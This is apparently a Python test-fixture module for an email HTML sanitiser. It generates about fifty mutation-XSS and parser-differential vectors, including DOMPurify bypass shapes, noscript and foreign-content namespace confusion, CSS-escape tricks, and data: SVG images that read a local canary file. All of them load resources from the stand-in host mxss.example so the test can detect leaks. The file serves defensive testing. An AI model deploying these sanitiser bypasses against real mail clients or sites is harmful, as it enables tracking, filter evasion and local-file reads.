# ruff: noqa: E501 - one vector a line reads best
"""Parser-differential (mutation XSS) and foreign-content vectors for the leak proof (issue 16).

Each vector is HTML in which a lenient parser and a browser disagree about what is an element, or
in which SVG/MathML, CSS escapes, data: images or animation reach out after sanitising. Every
address is under `mxss.example` (the leak proofs rewrite it to their counting servers) or the
canary file given to `vectors()` (a local-file read). Sources of the shapes: the issue's own
reports, DOMPurify's test suite and its published bypasses (2.0.0 `</p>` in SVG, 2.0.17
namespace confusion with <form>/<mglyph>, 2.2.2 <mglyph><style> comments), and the WHATWG
tree-construction rules for integration points, raw text and comments.
"""

from __future__ import annotations

import base64
import gzip
from email.message import EmailMessage

H = "https://mxss.example"


def _svg_reading(canary: str, H: str) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">'
        f'<image href="file://{canary}" xlink:href="file://{canary}" width="40" height="40"/>'
        f'<image xlink:href="{canary}" width="40" height="40"/>'  # Qt's SVG reader opens a plain path'
        f'<image href="{H}/svg-in-data.png" width="4" height="4"/></svg>'
    ).encode()


def vectors(canary: str = "/nonexistent/canary.png", host: str = H) -> list[tuple[str, str]]:
    """(name, HTML fragment) pairs; `canary` is a local file whose reading would be a leak.

    `host` replaces `https://mxss.example` (also inside the base64 of the data: SVG vectors).
    """
    H = host
    svg = _svg_reading(canary, H)
    b64 = base64.b64encode(svg).decode()
    gz = base64.b64encode(gzip.compress(svg)).decode()
    return [
        # -- the reports
        ("svg-style-markup", f'<svg><style>a{{}}<p><link rel="preconnect" href="{H}/pc"><img src="{H}/x.png">{{}}</style></svg>'),
        ("math-style-markup", f'<math><style><img src="{H}/math-style.png"></style></math>'),
        ("svg-style-meta-refresh", f'<svg><style><meta http-equiv="refresh" content="0;url={H}/refresh"></style></svg>'),
        ("css-escape-end-style", f'<style>a{{content:"\\3c/style\\3e\\3cimg src={H}/css-escape.png\\3e"}}</style>'),
        ("css-escape-comment", f'<style>a{{content:"\\3c!-- --!\\3e\\3c/style\\3e\\3cimg src={H}/css-comment.png\\3e"}}</style>'),
        ("css-escape-cdata", f'<style>a{{content:"\\3c![CDATA[\\3c/style\\3e\\3cimg src={H}/css-cdata.png\\3e"}}</style>'),
        ("svg-set-href", f'<svg><image id="i1" width="9" height="9"/><set href="#i1" attributeName="href" to="{H}/set.png"/></svg>'),
        ("svg-animate-xlink", f'<svg><image width="9" height="9"><animate attributeName="xlink:href" values="{H}/animate.png" dur="1s"/></image></svg>'),
        ("svg-animate-to", f'<svg><image width="9" height="9"><animate attributeName="href" from="#" to="{H}/animate-to.png" begin="0s" dur="1s" fill="freeze"/></image></svg>'),
        ("data-png-is-svg", f'<img src="data:image/png;base64,{b64}" width="40" height="40">'),
        ("data-gif-is-gzipped-svg", f'<img src="data:image/gif;base64,{gz}" width="40" height="40">'),
        ("data-png-is-svg-in-css", f'<div style="background:url(data:image/png;base64,{b64});width:40px;height:40px">x</div>'),
        # -- DOMPurify bypass history and mXSS literature
        ("dompurify-2.0.0-p-in-svg", f'<svg></p><style><a id="</style><img src={H}/dp-p.png>">'),
        ("svg-p-style-id", f'<svg><p><style><a id="</style><img src={H}/dp-p2.png>"></p></svg>'),
        ("namespace-confusion-form", f"<form><math><mtext></form><form><mglyph><style></math><img src={H}/ns-form.png>"),
        ("mglyph-style-comment", f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img src={H}/mglyph.png&gt;">'),
        ("mglyph-svg-textarea", f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src={H}/mglyph-ta.png>">'),
        ("noscript-title", f'<noscript><p title="</noscript><img src={H}/noscript.png>"></noscript>'),
        ("noembed-title", f'<noembed><img title="</noembed><img src={H}/noembed.png>"></noembed>'),
        ("noframes-style", f"<noframes><style></noframes><img src={H}/noframes.png>"),
        ("xmp-text", f"<xmp><img src={H}/xmp.png></xmp>"),
        ("iframe-text", f"<iframe><img src={H}/iframe-text.png></iframe>"),
        ("svg-cdata", f"<svg><![CDATA[</svg><img src={H}/svg-cdata.png>]]></svg>"),
        ("svg-style-cdata", f"<svg><style><![CDATA[</style><img src={H}/svg-style-cdata.png>]]></style></svg>"),
        ("svg-title-integration-point", f"<svg><title><style><img src={H}/svg-title.png></style></title></svg>"),
        ("annotation-xml-html", f'<math><annotation-xml encoding="text/html"><style><img src={H}/annotation.png></style></annotation-xml></math>'),
        ("foreignobject-style", f"<svg><foreignObject><style><img src={H}/foreign.png></style></foreignObject></svg>"),
        ("svg-style-import", f'<svg><style>@import "{H}/svg-import.css";</style></svg>'),
        ("svg-style-background", f"<svg><style>*{{background:url({H}/svg-bg.png)}}</style><rect width='9' height='9'/></svg>"),
        ("svg-script-href", f'<svg><script href="{H}/svg-script.js"></script><script xlink:href="{H}/svg-script2.js"/></svg>'),
        ("table-foster-style", f"<table><style>x{{}}</style><img src={H}/foster.png><tr><td>cell</td></tr></table>"),
        ("select-template", f"<select><template><img src={H}/select-template.png></template></select>"),
        ("comment-abrupt", f"<!--><img src={H}/comment-abrupt.png>-->"),
        ("comment-bang-end", f"<!----!><img src={H}/comment-bang.png>-->"),
        ("bogus-comment-pi", f"<?xml ?><img src={H}/bogus-pi.png>"),
        ("plaintext", f"<plaintext><img src={H}/plaintext.png>"),
        ("link-hints", f'<link rel="dns-prefetch" href="//dns.mxss.example"><link rel="preload" href="{H}/preload.png" as="image"><link rel="modulepreload" href="{H}/mod.js">'),
        ("meta-link-header", f'<meta http-equiv="Link" content="<{H}/meta-link.css>; rel=preload; as=style">'),
        ("svg-use-data-svg", f'<svg><use href="data:image/svg+xml;base64,{b64}#x"/></svg>'),
        ("svg-feimage-data-svg", f'<svg><filter id="f"><feImage href="data:image/png;base64,{b64}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>'),
        ("local-file-image", f'<img src="file://{canary}"><div style="background:url(file://{canary})">x</div>'),
        # -- issue 21: a browser running scripts reads <noscript> as raw text, html5lib (scripting off) as markup.
        # The nested </noscript> ends the browser's raw text early; the next end tag takes it back into
        # SVG/MathML, where <style> is foreign and the markup in its CSS string is built.
        ("noscript-foreignobject-style", f"<svg><foreignObject><noscript><foreignobject><noscript></noscript></foreignobject>{_loads_in_css(H, 'ns-fo')}</noscript></foreignObject></svg>"),
        ("noscript-desc-style", f"<svg><desc><noscript><desc><noscript></noscript></desc>{_loads_in_css(H, 'ns-desc')}</noscript></desc></svg>"),
        ("noscript-mtext-style", f"<math><mtext><noscript><mtext><noscript></noscript></mtext>{_loads_in_css(H, 'ns-mtext')}</noscript></mtext></math>"),
        ("noscript-mi-style", f"<math><mi><noscript><mi><noscript></noscript></mi>{_loads_in_css(H, 'ns-mi')}</noscript></mi></math>"),
        ("noscript-annotation-xml-style", f'<math><annotation-xml encoding="text/html"><noscript><annotation-xml><noscript></noscript></annotation-xml>{_loads_in_css(H, "ns-ax")}</noscript></annotation-xml></math>'),
        ("noscript-table-cell-style", f"<table><tr><td><svg><foreignObject><noscript><foreignobject><noscript></noscript></foreignobject>{_loads_in_css(H, 'ns-td')}</noscript></foreignObject></svg></td></tr></table>"),
        ("noscript-head-style", f"<html><head><noscript><style>a{{content:'</noscript><link rel=preconnect href={H}/ns-head-pc><meta http-equiv=refresh content=0;url={H}/ns-head-refresh>'}}</style></noscript></head><body>x</body></html>"),
        # The same shape with the markup escaped in CSS: no browser builds it from the message, but a
        # sanitiser that writes the decoded CSS back does.
        ("noscript-css-escape-string", f'<svg><foreignObject><noscript><foreignobject><noscript></noscript></foreignobject><style>a{{content:"\\3c meta http-equiv=refresh content=0;url={H}/ns-escaped\\3e"}}</style></noscript></foreignObject></svg>'),
        ("noscript-css-escape-ident", f"<svg><foreignObject><noscript><foreignobject><noscript></noscript></foreignobject><style>a{{b:\\3c img src={H}/ns-ident.png\\3e}}</style></noscript></foreignObject></svg>"),
        # Chromium 135+ (customizable <select>) keeps the markup of <option> and copies it into <selectedcontent>.
        ("select-option-markup", f"<select><option><img src={H}/option.png><link rel=preconnect href={H}/option-pc>x</option></select>"),
        ("select-selectedcontent", f"<select><button><selectedcontent></selectedcontent></button><option><img src={H}/selected.png>o</option></select>"),
    ]  # fmt: skip


# What a browser builds from these vectors as the message wrote them (scripting on, Chromium's
# <select>): the report must list each of these URLs.
BROWSER_LOADS = {
    **{name: [f"{H}/{tag}.png", f"{H}/{tag}-pc", f"{H}/{tag}-dns", f"{H}/{tag}-refresh"]
       for name, tag in (("noscript-foreignobject-style", "ns-fo"), ("noscript-desc-style", "ns-desc"),
                         ("noscript-mtext-style", "ns-mtext"), ("noscript-mi-style", "ns-mi"),
                         ("noscript-annotation-xml-style", "ns-ax"), ("noscript-table-cell-style", "ns-td"))},
    "noscript-head-style": [f"{H}/ns-head-pc", f"{H}/ns-head-refresh"],
    "select-option-markup": [f"{H}/option.png", f"{H}/option-pc"],
    "select-selectedcontent": [f"{H}/selected.png"],
}  # fmt: skip


def _loads_in_css(H: str, tag: str) -> str:
    """A <style> whose CSS string is an image, two connection hints and a refresh once it is markup."""
    return (
        f'<style>a{{content:"<img src={H}/{tag}.png><link rel=preconnect href={H}/{tag}-pc>'
        f'<link rel=dns-prefetch href={H}/{tag}-dns><meta http-equiv=refresh content=0;url={H}/{tag}-refresh>"}}</style>'
    )


def one_vector(html: str) -> bytes:
    """A message whose only body is `html`."""
    return (
        "From: a@mxss.example\r\nTo: b@example.org\r\nSubject: v\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + html
    ).encode()


def vectors_message(canary: str = "/nonexistent/canary.png") -> bytes:
    """All vectors, one HTML body, each in its own block (the raw-text ones may swallow the rest)."""
    blocks = "".join(f'<div id="v-{name}">{html}</div>\n' for name, html in vectors(canary) if name != "plaintext")
    message = EmailMessage()
    message["From"] = "Newsroom <news@mxss.example>"
    message["To"] = "reader@example.org"
    message["Subject"] = "Parser differentials"
    message.set_content("text part")
    message.add_alternative(f"<html><body>{blocks}<p>end</p></body></html>", subtype="html")
    return message.as_bytes()
